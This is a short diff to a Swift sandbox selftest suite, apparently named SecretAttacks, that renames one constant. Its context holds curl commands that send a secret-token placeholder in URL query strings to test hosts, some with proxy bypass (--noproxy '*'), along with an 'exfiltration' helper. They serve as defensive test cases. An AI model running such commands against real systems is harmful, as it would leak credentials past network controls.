@@ -26,7 +26,7 @@ enum SecretAttacks {
         }
     }
 
-    static let pins = "{allowed.test: 127.0.0.1, bound.test: 127.0.0.1, other.bound.test: \(Lab.unlisted)}"
+    static let pins = "{allowed.test: 127.0.0.1, bound.test: 127.0.0.1, other.bound.test: \(Lab.unlistedName)}"
 
     /// The sandbox under attack: `$ST_TOKEN` is the placeholder of the entry bound to bound.test.
     static func start(_ environment: SelftestEnvironment) throws(SelftestFailure) -> String {
@@ -94,7 +94,7 @@ enum SecretAttacks {
             curl -s -m5 "http://other.bound.test:8080/?key=$ST_TOKEN"
             curl -s -m5 --noproxy '*' "http://other.bound.test:8080/?key=$ST_TOKEN"
             curl -s -m5 "http://bound.test/?key=$ST_TOKEN"; curl -s -m5 --noproxy '*' "http://bound.test/?key=$ST_TOKEN"
-            \(tool) http \(Lab.unlisted) 8080 "/?key=$ST_TOKEN" other.bound.test
+            \(tool) http \(Lab.unlistedName) 8080 "/?key=$ST_TOKEN" other.bound.test
             """)
 
     static let dnsName = exfiltration(
